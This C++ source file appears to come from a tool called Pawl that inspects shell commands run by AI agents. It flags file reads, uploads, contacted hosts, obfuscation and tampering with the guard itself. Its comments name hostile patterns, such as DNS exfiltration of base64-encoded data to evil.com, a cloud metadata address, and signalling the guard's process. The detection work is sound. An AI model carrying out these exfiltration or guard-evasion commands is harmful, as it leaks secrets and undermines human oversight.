// SPDX-License-Identifier: Apache-2.0
#include "analyse/effects/effects.h"

#include <algorithm>
#include <cctype>
#include <utility>

#include "analyse/effects/redirected_connection.h"
#include "analyse/effects/secret_search.h"
#include "analyse/effects/signalled_processes.h"
#include "analyse/effects/step_reader.h"
#include "analyse/places/guards_page.h"
#include "analyse/places/hosts.h"
#include "analyse/places/mode.h"
#include "analyse/places/mounts.h"
#include "analyse/places/path_class.h"
#include "analyse/scope/relocations.h"
#include "base/glob.h"
#include "content/small/socat.h"
#include "knowledge/credentials.h"
#include "knowledge/names.h"

namespace pawl {
namespace {}  // namespace

bool names_protected_branch(std::string_view ref) {
  if (ref.starts_with('+')) ref.remove_prefix(1);
  const std::size_t colon = ref.rfind(':');
  if (colon != std::string_view::npos) ref.remove_prefix(colon + 1);
  if (ref.starts_with("refs/heads/")) ref.remove_prefix(11);
  return ref.empty() || ref == "main" || ref == "master" || ref == "HEAD" || ref == "trunk" ||
         ref.starts_with("release") || has_pattern(ref);
}

namespace {

// The file that `@file`, `name=@file` or `name=<file` sends, and `file://file` of the aws client; with `names`, that of
// `name@file` too. Empty if it is only text, `-` for standard input.
[[nodiscard]] std::string_view file_in_data(std::string_view text, bool names) {
  if (text.starts_with('@')) return text.substr(1);
  for (const std::string_view scheme : {"fileb://", "file://"}) {
    if (const std::size_t at = text.find(scheme); at == 0 || (at != std::string_view::npos && text[at - 1] == '='))
      return text.substr(at + scheme.size());
  }
  if (const std::size_t sign = text.find_first_of("@=:"); names && sign != std::string_view::npos && text[sign] == '@')
    return text.substr(sign + 1, text.find(';', sign) - sign - 1);
  const std::size_t equals = text.find('=');
  if (equals != std::string_view::npos && equals + 1 < text.size() &&
      (text[equals + 1] == '@' || text[equals + 1] == '<')) {
    return text.substr(equals + 2, text.find(';', equals) - equals - 2);
  }
  return {};
}

// A header such as `Authorization: …` or `X-Api-Key: …` proves who asks; other headers only say something. A `field`
// needs no blank behind the colon.
[[nodiscard]] bool proves_who_asks(std::string_view header, bool is_field) {
  const std::size_t colon = header.find(':');
  if (colon == std::string_view::npos) return true;  // `user:password` has one, a cookie need not
  std::string name;
  for (const char c : header.substr(0, colon)) name += static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  if (name.find_first_of(" /$") != std::string::npos) return true;
  if (!is_field && !header.substr(colon + 1).starts_with(' ')) return true;
  const NameList parts = secret_names().header_parts;
  return std::any_of(parts.begin(), parts.end(),
                     [&](std::string_view part) { return name.find(part) != std::string::npos; });
}

// httpie's `Name:value`; `name:=1` is a field of the body, `name==x` and `name=a:b` are not headers either.
[[nodiscard]] bool is_header_field(std::string_view text) {
  const std::size_t sign = text.find_first_of("@=:/ ");
  return sign != std::string_view::npos && sign > 0 && text[sign] == ':' &&
         (sign + 1 == text.size() || text[sign + 1] != '=');
}

// Whether a folder, or all that a pattern means in it, is the project's root or above it.
[[nodiscard]] bool holds_project(std::string_view path, PathClasses classes, const World& world) {
  if (world.project.empty()) return classes.has(PathClass::cwd);
  while (path.ends_with("/*")) path.remove_suffix(2);
  return path == world.project || is_below(world.project, path);
}

// `file:///etc/x` and sqlite's `file:x?mode=ro` are paths.
[[nodiscard]] std::string_view without_scheme(std::string_view text) {
  if (!text.starts_with("file:")) return text;
  text.remove_prefix(5);
  if (text.starts_with("//")) text.remove_prefix(std::min(text.find('/', 2), text.size()));
  return text.substr(0, text.find('?'));
}

}  // namespace

bool is_remote_path(std::string_view text) {
  const std::size_t colon = text.find(':');
  return colon != std::string_view::npos && colon > 0 && text.find('/') > colon;
}

StepReader::StepReader(const Arguments& arguments, StepContext& context)
    : arguments_(arguments), fact_(*arguments.fact), context_(context), start_(context.cwd) {
  facts_.sources = context.stdin_sources;
  facts_.sent = context.stdin_sources;
  facts_.first_effect = context.out.effects.size();
  if (arguments.has(Mark::recursive)) facts_.attributes |= Attribute::recursive;
  if (arguments.has(Mark::force)) facts_.attributes |= Attribute::forced;
  for (const Argument& argument : arguments.values) facts_.all.push_back(&argument);
  for (const Argument& argument : arguments.operands) facts_.all.push_back(&argument);
}

Sources StepReader::read(const Scope& scope) {
  for (const Argument* argument : facts_.all) take_in(*argument);
  for (const Argument& value : arguments_.values) note_password(value);
  take_linked_guard();
  for (const Argument* argument : facts_.all) {
    if (argument->role == Role::sought) mark_sought_text(argument->text, facts_.first_effect, context_);
  }
  const bool decodes = arguments_.has(Mark::decode);
  if (decodes) facts_.sources |= Source::decoder;
  if ((fact_.encodes || arguments_.has(Mark::encodes)) && !decodes) facts_.sources |= Source::encoder;
  const bool tells_secret = std::any_of(arguments_.effects.begin(), arguments_.effects.end(), [](const EffectFact& e) {
    return e.kind == EffectKind::read && e.attributes.has(Attribute::shown);
  });
  const bool prints_secrets = fact_.prints_secrets && !arguments_.has(Mark::quiet);
  if ((prints_secrets || tells_secret) && arguments_.command.empty()) facts_.sources |= Source::secret;
  if (tells_secret) facts_.sources |= Source::teller | credential_told_by(context_.command);
  if (serves_folder()) {
    Word folder;
    folder.text = ".";
    if (context_.cwd.empty()) folder.kind = Word::Kind::unknown;
    take_path(EffectKind::read, {Role::read, &folder, folder.text, {}}, folder.text, true, Attribute::recursive);
  }
  const bool connects =
      !facts_.hosts.empty() || std::any_of(arguments_.effects.begin(), arguments_.effects.end(),
                                           [](const EffectFact& e) { return e.kind == EffectKind::connect; });
  if (connects || fact_.fetches) facts_.sources |= Source::network;
  show_own_file();
  for (const Argument* argument : facts_.all) give_out(*argument);
  unpack_fed();
  // `ln -s /tmp/x/.claude` puts the link here.
  if (fact_.places == Places::link && arguments_.operands.size() == 1) {
    Word here;
    here.text = ".";
    place_below({Role::create, &here, here.text, {}}, EffectKind::create);
  }
  add_program_effects(arguments_, facts_, scope, context_);
  return facts_.sources;
}

void StepReader::note_password(const Argument& value) {
  if (!value.word->is_known()) return;
  const auto note = [&](std::size_t from) {
    context_.out.passwords.push_back({value.text.substr(from), context_.step, context_.span});
  };
  // The rest of a login is the password; without one, the program asks for it.
  const auto note_behind = [&](char sign) {
    if (const std::size_t at = value.text.find(sign); at != std::string::npos) note(at + 1);
  };
  constexpr std::string_view kGiven = "pass:";
  if (value.role == Role::login) return note_behind('%');
  if (value.role == Role::password_source) {
    if (value.text.starts_with(kGiven)) note(kGiven.size());
    return;
  }
  if (!value.has(Mark::password)) return;
  if (value.role == Role::header) return note_behind(':');
  note(0);
}

// `ln -s ~/.pawl/bin/pawl x` is another name for Pawl's program, although the link only says it.
void StepReader::take_linked_guard() {
  if (fact_.places != Places::link) return;
  for (const Argument& operand : arguments_.operands) {
    if (operand.role != Role::text || context_.is_remote) continue;
    const bool is_guard =
        operand.word->is_known()
            ? resolve_path(operand.text, context_.cwd, false, true, context_.world).classes.has(PathClass::pawl_program)
            : lists_guard(operand.word->step, context_.out.steps, context_.world);
    if (is_guard) take_path(EffectKind::read, operand, operand.text, false);
  }
}

void StepReader::show_own_file() {
  for (const Argument& value : arguments_.values) {
    if (!fact_.shows.empty() && !arguments_.has(Mark::quiet) && value.has(Mark::loads))
      take_path(EffectKind::read, value, value.text, false, Attribute::shown);
  }
  if (fact_.shows.empty() || arguments_.has(Mark::quiet) || context_.cwd.empty() || context_.is_remote) return;
  if (context_.world.files.kind(context_.cwd + "/" + std::string(fact_.shows)) != FileKind::regular) return;
  Word file;
  file.text = fact_.shows;
  take_path(EffectKind::read, {Role::show, &file, file.text, {}}, file.text, false, Attribute::shown);
}

void StepReader::take_in(const Argument& argument) {
  const bool is_header =
      argument.role == Role::header || (argument.role == Role::field && is_header_field(argument.text));
  if (is_header && names_other_host(argument.text)) facts_.is_redirected = true;
  facts_.sources |= argument.word->sources;
  // A password proves who asks, too: `mysql -p"$DB_PASSWORD"`. A key is not one.
  const bool is_use = is_header ? proves_who_asks(argument.text, argument.role == Role::field)
                                : (argument.has(Mark::password) || argument.role == Role::login ||
                                   argument.role == Role::password_source) &&
                                      !argument.word->sources.has(Source::key);
  (is_use ? facts_.used : facts_.sent) |= argument.word->sources;
  // Roles that are not here take nothing in.
  struct Taking {
    Role role;
    void (StepReader::*take)(const Argument& argument);
  };
  static constexpr Taking kTakings[] = {
      {Role::folder, &StepReader::enter_folder},  {Role::url, &StepReader::note_host},
      {Role::saved_url, &StepReader::note_host},  {Role::host, &StepReader::note_host},
      {Role::address, &StepReader::take_address}, {Role::version, &StepReader::take_version},
      {Role::ref, &StepReader::take_ref},         {Role::mode, &StepReader::take_mode},
      {Role::data, &StepReader::take_data},       {Role::field, &StepReader::take_data},
      {Role::blob, &StepReader::take_blob},       {Role::mount, &StepReader::take_mount},
      {Role::send, &StepReader::take_file},       {Role::stage, &StepReader::take_file},
      {Role::read, &StepReader::take_file},       {Role::read_first, &StepReader::take_file},
      {Role::show, &StepReader::take_file},       {Role::settings, &StepReader::take_quoted},
      {Role::move, &StepReader::take_file},       {Role::manifest, &StepReader::take_manifest},
      {Role::script, &StepReader::take_script},   {Role::header, &StepReader::take_header_file},
      {Role::unread, &StepReader::take_file},     {Role::quote, &StepReader::take_quoted},
      {Role::list, &StepReader::take_list},       {Role::process, &StepReader::take_process},
      {Role::port, &StepReader::take_port},       {Role::password_source, &StepReader::take_password_source},
  };
  for (const Taking& taking : kTakings) {
    if (taking.role == argument.role) return (this->*taking.take)(argument);
  }
}

void StepReader::enter_folder(const Argument& argument) {
  if (fact_.name == "cd" || fact_.name == "pushd") return;
  context_.cwd =
      argument.word->is_known() ? real_path(argument.text, context_.cwd, false, true, context_.world) : std::string();
}

void StepReader::take_version(const Argument& argument) {
  if (argument.word->is_known() &&
      resolve_path(argument.text, context_.cwd, false, true, context_.world).classes.has(PathClass::secret))
    take_path(EffectKind::read, argument, argument.text, false, Attribute::shown);
}

void StepReader::take_ref(const Argument& argument) {
  facts_.has_ref = true;
  facts_.refs += (facts_.refs.empty() ? "" : " ") + argument.text;
  facts_.has_protected_ref |= !argument.word->is_known() || names_protected_branch(argument.text);
}

void StepReader::take_mode(const Argument& argument) {
  has_mode_ = true;
  is_world_writable_ = is_world_writable(argument.text);
  gives_rights_ = gives_owners_rights(argument.text);
}

void StepReader::take_data(const Argument& argument) {
  const std::string_view file = file_in_data(argument.text, argument.role == Role::field);
  facts_.sends_file |= reads_file(argument.word->step);  // `-d "$(cat x)"`
  if (!file.empty() && file != "-") take_path(EffectKind::read, argument, file, true);
  // curl takes several for one field: `-F files=@a,b`.
  if (const std::size_t comma = file.find(','); comma != std::string_view::npos)
    take_path(EffectKind::read, argument, file.substr(0, comma), true);
}

void StepReader::take_blob(const Argument& argument) {
  const std::size_t colon = argument.text.find(':');
  if (colon == std::string::npos) return;
  take_path(EffectKind::read, argument, std::string_view(argument.text).substr(colon + 1), false, Attribute::shown);
}

void StepReader::take_file(const Argument& argument) {
  if (argument.role == Role::send && argument.word->is_known() && is_remote_path(argument.text))
    return note_host(argument);
  // PHP's copy() takes an address as well.
  if (argument.role == Role::read && fact_.places == Places::copy && is_url(argument.text)) return note_host(argument);
  // `xdg-open http://localhost:7295`
  if (is_url(argument.text)) mark_guards_page(argument.text, context_);
  // curl has patterns of its own: `-T '{a,b}'`.
  if (argument.has(Mark::braces) && take_listed(argument)) return;
  if (argument.role == Role::move && argument.text.starts_with("/dev/")) replace_device(EffectKind::move, argument);
  take_path(*effect_on_path(argument.role), argument, argument.text, argument.role == Role::send,
            argument.role == Role::show ? Attributes(Attribute::shown) : Attributes());
}

void StepReader::take_manifest(const Argument& argument) {
  if (is_url(argument.text)) return note_host(argument);
  take_path(EffectKind::read, argument, argument.text, false);
}

bool StepReader::is_secret_file(const Argument& argument) const {
  return argument.word->is_known() &&
         resolve_path(argument.text, context_.cwd, false, true, context_.world).classes.has(PathClass::secret);
}

// A key is not a script: the error messages would show its content. A shell takes `.env` as it is meant.
void StepReader::take_script(const Argument& argument) {
  const bool is_for_shell = fact_.language == "shell" || fact_.language.empty();
  if (!is_secret_file(argument)) return;
  if (is_for_shell && !is_kept_secret(resolve_path(argument.text, context_.cwd, false, true, context_.world).classes))
    return;
  take_path(EffectKind::read, argument, argument.text, false, Attribute::shown);
}

// `rustc .env`: what cannot be understood is shown.
void StepReader::take_quoted(const Argument& argument) {
  if (is_url(argument.text)) return note_host(argument);
  take_path(EffectKind::read, argument, argument.text, false,
            is_secret_file(argument) ? Attributes(Attribute::shown) : Attributes());
}

// `tar -T .env`: each line that names no file is shown.
void StepReader::take_list(const Argument& argument) {
  if (is_secret_file(argument)) take_path(EffectKind::read, argument, argument.text, false, Attribute::shown);
}

// `openssl -pass file:key.txt`
void StepReader::take_password_source(const Argument& argument) {
  constexpr std::string_view kFile = "file:";
  if (argument.text.starts_with(kFile))
    take_path(EffectKind::read, argument, std::string_view(argument.text).substr(kFile.size()), false);
}

// Who watches Pawl from inside sees what it sees, and can answer in its place.
void StepReader::take_process(const Argument& argument) {
  if (is_guards_process(*argument.word, context_.out.steps, context_.world) && !context_.is_remote)
    add_effect(EffectKind::system, Action::guard, argument.text, {}, context_);
}

// Whatever listens there is ended.
void StepReader::take_port(const Argument& argument) {
  if (argument.word->is_known() && is_guards_port(argument.text, context_.world) && !context_.is_remote)
    add_effect(EffectKind::system, Action::guard, argument.text, {}, context_);
}

// `curl -H @file`: a file of headers.
void StepReader::take_header_file(const Argument& argument) {
  if (argument.text.starts_with('@') && argument.text != "@-")
    take_path(EffectKind::read, argument, std::string_view(argument.text).substr(1), true);
}

bool StepReader::take_listed(const Argument& argument) {
  const std::size_t open = argument.text.find('{');
  const std::size_t close = argument.text.find('}', std::min(open, argument.text.size()));
  if (!argument.word->is_known() || close == std::string::npos) return false;
  for (std::size_t at = open + 1; at <= close;) {
    const std::size_t end = std::min(argument.text.find(',', at), close);
    const std::string path =
        argument.text.substr(0, open) + argument.text.substr(at, end - at) + argument.text.substr(close + 1);
    take_path(EffectKind::read, argument, path, true);
    at = end + 1;
  }
  return true;
}

void StepReader::take_address(const Argument& argument) {
  const SocatAddress address = read_socat_address(argument.text);
  Argument inner = argument;
  inner.text = address.value;
  if (address.kind == SocatAddress::Kind::host) note_host(inner);
  if (address.kind == SocatAddress::Kind::file) take_path(EffectKind::read, inner, inner.text, true);
  if (address.kind == SocatAddress::Kind::socket) take_path(EffectKind::read, inner, inner.text, false);
}

void StepReader::take_mount(const Argument& argument) {
  const Mount mount = read_mount(argument.text);
  if (mount.source.empty()) return;
  const std::string path = real_path(mount.source, start_, false, true, context_.world);
  if (gives_host_rights(path, mount.is_read_only))
    return add_effect(EffectKind::container, Action::host_rights, path, {}, context_);
  take_path(EffectKind::read, argument, mount.source, false);
  // Nobody sees what the container does with what guards the agent.
  constexpr PathClasses kGuarding = PathClass::agent_config | PathClass::pawl_own;
  const PathClasses classes =
      resolve_path(path, "/", false, true, context_.world).classes | classes_held_by(path, context_.world);
  if (!mount.is_read_only && classes.has_any(kGuarding))
    add_path_effect(EffectKind::write, Action::none, *argument.word, path, {}, {}, context_);
}

namespace {

// The four numbers that a URL begins with, if something unknown follows; else nothing.
[[nodiscard]] std::string address_in_front(std::string_view url) {
  const std::size_t scheme = url.find("://");
  if (scheme == std::string_view::npos) return {};
  url.remove_prefix(scheme + 3);
  const std::string_view front = url.substr(0, url.find_first_not_of("0123456789."));
  const bool is_whole = std::count(front.begin(), front.end(), '.') == 3 && !front.ends_with('.');
  return is_whole && url.substr(front.size()).starts_with('$') ? std::string(front) : std::string();
}

}  // namespace

void StepReader::note_host(const Argument& argument) {
  if (argument.text.starts_with("file:"))
    return take_path(EffectKind::read, argument, without_scheme(argument.text), false, Attribute::shown);
  constexpr std::size_t kMaxHosts = 64;
  if (facts_.hosts.size() >= kMaxHosts) return;
  // `https://h.example/$ID`: the host is known although the rest is not.
  const std::string host = host_of(argument.text);
  const bool is_known = argument.word->is_known() ||
                        (argument.text.find("://") != std::string::npos &&
                         host.find_first_of("$`") == std::string::npos && host.find("…") == std::string::npos &&
                         argument.text.find_first_of("/?#", argument.text.find("://") + 3) != std::string::npos);
  // `http://169.254.170.2$PATH`: a port or a path follows a whole address.
  const std::string address = is_known ? std::string() : address_in_front(argument.text);
  const std::string& name = is_known ? host : address.empty() ? argument.text : address;
  // `dig $(… | base64).evil.com`: the name itself is the message.
  if (argument.word->sources.has(Source::encoder) && (argument.role == Role::host || !is_known))
    facts_.has_encoded_name = true;
  if (has_user_info(argument.text)) facts_.is_redirected = true;
  if (!name.empty() && std::find(facts_.hosts.begin(), facts_.hosts.end(), name) == facts_.hosts.end())
    facts_.hosts.push_back(name);
}

void StepReader::take_path(EffectKind kind, const Argument& argument, std::string_view text, bool is_sent,
                           Attributes extra) {
  if (text == "-" && kind == EffectKind::read) return;  // standard input
  text = without_scheme(text);
  const std::size_t before = context_.out.effects.size();
  const std::string folder = argument.role == Role::read_first ? std::exchange(context_.cwd, start_) : context_.cwd;
  add_path_effect(kind, Action::none, *argument.word, text, facts_.attributes | extra, {}, context_);
  context_.cwd = folder;
  if (context_.out.effects.size() == before) return;
  Effect& effect = context_.out.effects.back();
  if (fact_.looks) effect.classes.clear(PathClass::device);
  Sources found = sources_by_class(effect.classes);
  const auto written = context_.files->written.find(effect.object);
  if (written != context_.files->written.end()) found |= written->second;
  // `tar xzf x-*.tgz`: files that this call put there match as well.
  if (effect.attributes.has(Attribute::wildcard)) {
    for (const auto& [path, sources] : context_.files->written) {
      if (!sources.is_empty() && matches_glob(effect.object, path)) found |= sources;
    }
  }
  // A whole home holds its keys.
  if (effect.classes.has_any(PathClass::home | PathClass::root) &&
      effect.attributes.has_any(Attribute::recursive | Attribute::shown))
    found |= Source::secret | Source::key;
  const bool is_read_whole = kind == EffectKind::read &&
                             (effect.attributes & (Attribute::recursive | Attribute::shown)) == Attribute::recursive;
  // Packing a folder of the project, or one that is not known, packs more than one chosen file.
  const bool is_packed = argument.role == Role::read &&
                         effect.classes.has_any(PathClass::project | PathClass::unknown) &&
                         !effect.classes.has(PathClass::regenerable);
  if (is_read_whole && (effect.classes.has(PathClass::cwd) || is_packed)) found |= Source::project;
  if (is_read_whole && holds_project(effect.object, effect.classes, context_.world)) found |= Source::whole_project;
  found |= sources_below(effect.object, *context_.files, context_.world);
  facts_.sources |= found;
  if (is_sent) facts_.sent |= found;
  facts_.sends_file |= is_sent && kind == EffectKind::read;
  facts_.sends_unknown |= is_sent && effect.classes.has(PathClass::unknown);
  if (argument.role == Role::stage) context_.files->staged |= found;
}

bool StepReader::reads_file(int step) const {
  return step >= 0 && std::any_of(context_.out.effects.begin(), context_.out.effects.end(), [&](const Effect& effect) {
           return effect.step == step && effect.kind == EffectKind::read;
         });
}

bool StepReader::serves_folder() const {
  return std::any_of(arguments_.effects.begin(), arguments_.effects.end(),
                     [](const EffectFact& e) { return e.kind == EffectKind::read && e.attributes.is_empty(); });
}

bool is_kept_secret(PathClasses classes) {
  return classes.has(PathClass::secret) && classes.has_any(PathClass::credential_store | PathClass::system);
}

Attributes what_is_carried(Sources sources) {
  Attributes carried = sources.has(Source::project) ? Attributes(Attribute::carries_project) : Attributes();
  if (sources.has(Source::whole_project)) carried |= Attribute::whole_project;
  if (!sources.has(Source::secret)) return carried;
  carried |= Attribute::carries_secret;
  if (sources.has(Source::key)) carried |= Attribute::carries_key;
  if (sources.has_any(Source::encoder | Source::decoder)) carried |= Attribute::obfuscated;
  return carried;
}

Sources add_effects(const Arguments& arguments, const Scope& scope, StepContext& context) {
  return StepReader(arguments, context).read(scope);
}

}  // namespace pawl
